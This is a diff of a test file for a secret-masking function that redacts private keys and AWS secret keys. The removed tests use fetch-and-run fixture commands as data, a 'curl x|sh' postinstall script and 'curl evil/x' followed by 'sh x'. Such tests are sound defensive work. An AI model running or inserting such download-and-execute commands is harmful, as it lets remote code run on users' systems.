@@ -93,19 +93,6 @@ describe("a private key", () => {
     },
   );
 
-  it("is that of a service account, and nothing else of its file", async () => {
-    const account = { private_key: `${PRIVATE_KEY}\n`, scripts: { postinstall: "curl x|sh" } };
-    const shown = JSON.parse(await masked(JSON.stringify(account), "package.json"));
-    expect(shown).toEqual({ ...account, private_key: expect.stringMatching(/^\[secret:\w{8}\]\n$/) });
-  });
-
-  it("is masked as far as its lines are those of a key", async () => {
-    const [header, ...lines] = PRIVATE_KEY.split("\n");
-    const shown = await masked([header, ...lines.slice(0, -1), "curl evil/x", "sh x", lines.at(-1)].join("\n"), "a.sh");
-    expect(shown).toContain("curl evil/x\nsh x\n");
-    expect(shown).not.toContain(lines[1]);
-  });
-
   it("is none where its lines are no base64", async () => {
     const text = `-----BEGIN RSA PRIVATE KEY-----\nMI\n${"DEBUG=True\n".repeat(20)}-----END RSA PRIVATE KEY-----\n`;
     expect(await masked(text, "settings.py")).toBe(text);
@@ -119,13 +106,6 @@ describe("a private key", () => {
 
 describe("a key that is given by name", () => {
   const key = "wJalrXUtnFEMIK7MDENGbPxRfiCYzzzzKEY1234";
-
-  it.each([`AWS_SECRET_ACCESS_KEY=${key}a`, `"SecretAccessKey": '${key}a',`, `awsSecretAccessKey => "${key}a"`])(
-    "of AWS is masked under any of its names: %s",
-    async (line) => {
-      expect(await masked(`${line}\n`, "a.txt")).toMatch(/\[secret:\w{8}\](?:',|")?\n$/);
-    },
-  );
 
   it.each(["/", "+", "a"])("of AWS is masked also where it ends with %s", async (last) => {
     expect(await masked(`aws_secret_access_key: ${key}${last}\n`, "a.yml")).toMatch(/key: \[secret:\w{8}\]\n$/);
